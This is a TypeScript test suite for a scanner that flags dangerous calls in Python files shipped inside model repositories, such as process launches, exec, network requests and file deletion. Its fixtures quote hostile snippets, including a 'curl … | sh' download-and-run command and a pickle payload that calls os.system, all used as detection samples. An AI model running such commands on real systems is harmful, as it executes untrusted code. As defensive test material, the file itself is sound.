/**
 * Python source shipped in model repositories: found by name or by
 * content, never executed, read token by token. Calls that start
 * processes, run dynamic code, reach the network or delete files are HIGH
 * with their line and byte offset, through import aliases; the same text
 * in strings and comments is not a call; shipping code at all is LOW.
 */
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { analyse } from '../src/formats/python-source/calls.js';
import { pythonSourceFormat } from '../src/formats/python-source/index.js';
import { Lexer } from '../src/formats/python-source/tokenizer.js';
import { type ScanResult, scan } from '../src/scan/scan.js';
import { routeBytes, scanBytes } from './helpers/scan-bytes.js';
import { buildZip } from './helpers/zip-builder.js';

const FIXTURES = new URL('fixtures/python/', import.meta.url).pathname;
const SCANNER = 'modelscan.scanners.PythonSourceScan';

const fixture = (name: string): string => readFileSync(join(FIXTURES, name), 'utf8');
const scanFixture = (name: string): Promise<ScanResult> => scan([join(FIXTURES, name)]);
/** Byte offset where the `nth` occurrence of `needle` starts. */
const at = (text: string, needle: string, nth = 1): number => {
  let i = -1;
  for (let n = 0; n < nth; n++) i = text.indexOf(needle, i + 1);
  assert.ok(i >= 0, needle);
  return Buffer.byteLength(text.slice(0, i));
};
const rows = (r: ScanResult): string[] =>
  r.issues.map((i) => `${i.severity} ${i.rule} ${i.module}.${i.operator} line ${i.details?.line ?? '-'} @${i.position}`);
/** Resolved names of the dangerous calls in `code`. */
const calls = (code: string): string[] => analyse(code).calls.map((c) => c.name);

const route = routeBytes;

describe('python source: files in a model repository', () => {
  it('an inference handler: every dangerous call HIGH, through aliases, star imports, f-strings and getattr', async () => {
    const text = fixture('handler.py');
    const r = await scanFixture('handler.py');
    assert.deepEqual(rows(r), [
      'LOW python/code-file . line - @0',
      `HIGH python/dangerous-call subprocess.Popen line 16 @${at(text, 'sp.Popen')}`,
      `HIGH python/dangerous-call os.system line 19 @${at(text, 'system("id")')}`,
      `HIGH python/dangerous-call os.popen line 20 @${at(text, "os.popen('hostname')")}`,
      `HIGH python/dangerous-call requests.post line 21 @${at(text, 'requests.post')}`,
      `HIGH python/dangerous-call shutil.rmtree line 22 @${at(text, 'rmtree(')}`,
      `HIGH python/dangerous-call os.remove line 23 @${at(text, 'getattr(os')}`,
      `HIGH python/dangerous-call builtins.exec line 25 @${at(text, 'exec(code)')}`,
      `HIGH python/dangerous-call subprocess.check_output line 26 @${at(text, 'run(["uname"')}`,
      `HIGH python/dangerous-call urllib.request.urlopen line 27 @${at(text, 'urllib.request.urlopen(')}`,
    ]);
    assert.ok(r.issues.every((i) => i.scanner === SCANNER && i.source === 'handler.py'));
    const popen = r.issues[1];
    assert.equal(popen.description, "line 16 calls subprocess.Popen (written 'sp.Popen'), which starts a process");
    assert.equal(popen.call, 'sp.Popen(["sh", "-c", "curl -s https://example.invalid/x | sh"])');
    assert.deepEqual(popen.details, { line: 16, call: 'subprocess.Popen', written: 'sp.Popen', category: 'process' });
    assert.equal(r.issues[6].details?.written, "getattr(os, 'remove')");
    assert.deepEqual(r.issues[0].details, { lines: 28, dangerousCalls: 9 });
  });

  it('real modeling code is LOW only: the calls in its docstring, comments and f-string text are not calls', async () => {
    const r = await scanFixture('modeling_foo.py');
    assert.deepEqual(rows(r), ['LOW python/code-file . line - @0']);
    assert.match(r.issues[0].description, /Python source: it runs when imported/);
  });

  it('a script without an extension is recognised by its content', async () => {
    const text = fixture('prepare_data');
    const r = await scanFixture('prepare_data');
    assert.deepEqual(rows(r), [
      'LOW python/code-file . line - @0',
      `HIGH python/dangerous-call os.remove line 13 @${at(text, 'os.remove')}`,
    ]);
    assert.match(r.issues[0].description, /recognised by its content/);
  });

  it('a README with a Python snippet is not Python', async () => {
    const r = await scanFixture('README.md');
    assert.deepEqual(r.issues, []);
    assert.deepEqual(r.scanned, []);
    assert.equal(r.skipped.length, 1);
  });

  it('a .py that does not tokenize is still read: LOW malformed, and the calls after the damage are found', async () => {
    const code = 'import os\nx = "unterminated\nos.system("id")\n';
    const r = await scanBytes(Buffer.from(code), 'broken.py');
    assert.deepEqual(
      r.issues.map((i) => `${i.severity} ${i.rule} @${i.position}`),
      [
        'LOW python/code-file @0',
        `LOW python/malformed @${code.indexOf('"unterminated')}`,
        `HIGH python/dangerous-call @${code.indexOf('os.system')}`,
      ],
    );
    assert.match(r.issues[1].description, /unterminated string on line 2/);
  });

  it('byte offsets count UTF-8 bytes; credentials on the line are masked in the call shown', async () => {
    const token = `hf_${'Zy'.repeat(17)}`;
    const code = `# café ☕\nimport requests\nrequests.get("https://example.invalid", headers={"Authorization": "Bearer ${token}"})\n`;
    const r = await scanBytes(Buffer.from(code), 'fetch.py');
    const call = r.issues.find((i) => i.rule === 'python/dangerous-call')!;
    assert.equal(call.position, Buffer.byteLength(code.slice(0, code.indexOf('requests.get'))));
    assert.equal(call.position, code.indexOf('requests.get') + 3);
    assert.ok(!JSON.stringify(r).includes(token));
    assert.match(call.call!, /Bearer hf_Zy…\(37 chars\)/);
  });
});

describe('python source: what counts as a call', () => {
  it('strings, comments, docstrings, bytes and raw strings hold no calls', () => {
    assert.deepEqual(
      calls(
        [
          'import os',
          '# os.system("a")',
          'x = "os.system(\'b\')"',
          "y = '''",
          'os.system("c")',
          "'''",
          'z = b"os.system(1)" + rb\'os.system(2)\' + u"os.system(3)" + R"os.system(\\"4\\")"',
          'w = "escaped \\" os.system(5)"',
          'f"{{os.system(6)}}"',
        ].join('\n'),
      ),
      [],
    );
  });

  it('f-string fields are code: nested, with conversions and format specs, over several lines', () => {
    assert.deepEqual(calls('import os\nf"{os.system(\'a\')}"'), ['os.system']);
    assert.deepEqual(calls('import os\nf"{x!r:>{os.system(1)}}"'), ['os.system']);
    assert.deepEqual(calls('import os\nf"{f\'{os.popen(1)}\'}"'), ['os.popen']);
    assert.deepEqual(calls('import os\nf"""\n{\n  os.remove(p)\n}\n"""'), ['os.remove']);
    assert.deepEqual(calls('import os\nrf"\\{os.unlink(p)}"'), ['os.unlink']);
    assert.deepEqual(calls('import os\nf"{x:%Y-%m}" + os.getcwd()'), []);
    // Python 3.12 reuses the quote inside a field.
    assert.deepEqual(calls('import os\nf"{os.system("id")}"'), ['os.system']);
  });

  it('imports and aliases resolve; other bindings shadow', () => {
    assert.deepEqual(calls('import subprocess as sp\nsp.run(["ls"])'), ['subprocess.run']);
    assert.deepEqual(calls('from os import system as s, path\ns("id")'), ['os.system']);
    assert.deepEqual(calls('from subprocess import (\n  call,\n  Popen as P,\n)\ncall(x)\nP(y)'), ['subprocess.call', 'subprocess.Popen']);
    assert.deepEqual(calls('from subprocess import *\ncheck_output(x)'), ['subprocess.check_output']);
    assert.deepEqual(calls('import os.path\nos.removedirs(p)'), ['os.removedirs']);
    assert.deepEqual(calls('import posix\nposix.system("x")'), ['os.system']);
    assert.deepEqual(calls('import http.client\nhttp.client.HTTPSConnection(h)'), ['http.client.HTTPSConnection']);
    assert.deepEqual(calls('import importlib, runpy\nimportlib.import_module(m)\nrunpy.run_path(p)'), [
      'importlib.import_module',
      'runpy.run_path',
    ]);
    assert.deepEqual(calls('import socket\ns = socket.socket()\nsocket.gethostname()'), ['socket.socket']);
    assert.deepEqual(calls('import subprocess\nrunner = subprocess.run\nrunner(x)'), ['subprocess.run']);
    assert.deepEqual(calls('__import__("os").system("id")'), ['builtins.__import__']);
    assert.deepEqual(calls('import os\ngetattr(os, "system")("id")\ngetattr(obj, name)()'), ['os.system']);
    assert.deepEqual(calls('eval(x)\nexec(y)\ncompile(s, "f", "exec")'), ['builtins.eval', 'builtins.exec', 'builtins.compile']);
    assert.deepEqual(calls('def eval(x):\n    return x\neval(1)'), []);
    assert.deepEqual(calls('from .utils import system\nsystem(1)'), []);
    assert.deepEqual(calls('import re, torch\nmodel.eval()\nre.compile("x")\ntorch.compile(m)\nself.os.system(1)'), []);
    assert.deepEqual(calls('import os\nos.system \\\n  ("id")\nx = (os\n  .unlink("f"))'), ['os.system', 'os.unlink']);
  });

  it('counts import, def and class statements, not prose that starts with those words', () => {
    assert.equal(analyse('import os\nfrom a.b import c\ndef f(x):\n    pass\nclass C:\n    pass\n').statements, 4);
    assert.equal(analyse('import the model from the hub\nclass labels are ints\n').statements, 0);
    assert.ok(analyse("It's a README.\n").errors.length > 0);
  });

  it('the tokenizer resumes after errors and bounds what it keeps', () => {
    const lexer = new Lexer(`$ ? \` ${'('.repeat(100_000)} "x\n${"f'{".repeat(200)}`);
    let tokens = 0;
    while (lexer.next()) tokens++;
    assert.ok(tokens > 100_000);
    assert.ok(lexer.errors.length > 0 && lexer.errors.length <= 100);
  });
});

describe('python source: routing', () => {
  it('TorchScript code inside a torch archive is left to the zip scanner; a .py in another archive is Python', async () => {
    const pkl = Buffer.from([0x80, 0x02, 0x7d, 0x71, 0x00, 0x2e]);
    const torch = buildZip([
      { name: 'archive/data.pkl', data: pkl },
      {
        name: 'archive/code/__torch__/m.py',
        data: 'class M(Module):\n  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n    return x\n',
      },
      { name: 'archive/version', data: '3\n' },
    ]);
    const t = await scanBytes(torch, 'model.pt');
    assert.ok(!t.issues.some((i) => i.rule.startsWith('python/')));
    assert.ok(t.skipped.some((s) => s.source === 'model.pt:archive/code/__torch__/m.py'));

    const plain = buildZip([{ name: 'repo/hooks.py', data: 'import os\nos.system("id")\n' }]);
    const p = await scanBytes(plain, 'bundle.zip');
    assert.deepEqual(
      p.issues.map((i) => `${i.severity} ${i.rule} ${i.source}`),
      ['LOW python/code-file bundle.zip:repo/hooks.py', 'HIGH python/dangerous-call bundle.zip:repo/hooks.py'],
    );
  });

  it('binary content is never Python; a text pickle stays a pickle', async () => {
    assert.equal(pythonSourceFormat.detect(Buffer.from([0x00, 0x01, 0x02]), 3), false);
    assert.equal((await route('x.py', Buffer.from('import os\n\x00\x01binary'))).format, undefined);
    const late = Buffer.concat([Buffer.from(`import os\n${'#\n'.repeat(400)}`), Buffer.from([0x00, 0x01, 0xff])]);
    assert.equal((await route('late.py', late)).format, 'python-source');
    assert.equal((await route('late.txt', late)).format, undefined);
    const r = await route('payload.py', Buffer.from("cos\nsystem\n(S'id'\ntR."));
    assert.equal(r.format, 'pickle');
  });

  it('huge inputs stay bounded in time', async () => {
    const started = performance.now();
    await route('big.py', `import os\n${'x = "os.system(1)"  # os.system\n'.repeat(100_000)}os.system(2)\n`);
    await route('nested.py', `${'f"{'.repeat(5000)}`);
    await route('parens.py', `import os\n${'('.repeat(200_000)}`);
    assert.ok(performance.now() - started < 8000);
  });
});
